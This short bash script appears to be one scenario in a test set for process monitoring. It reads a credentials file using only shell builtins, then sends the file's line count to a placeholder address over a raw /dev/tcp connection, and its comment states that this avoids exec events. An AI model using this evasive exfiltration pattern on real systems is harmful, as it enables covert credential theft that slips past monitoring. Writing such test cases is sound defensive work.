# (d) Builtins only: reads the credentials line by line, connects and sends how
# many lines there were. No program is started, so no exec event tells of it.
# shellcheck shell=bash
count=0
while read -r _; do
    count=$((count + 1))
done <"$SCENE_CREDENTIALS"
exec 4>"/dev/tcp/$SCENE_ADDRESS/6666"
printf 'the file has %d lines\n' "$count" >&4
exec 4>&-
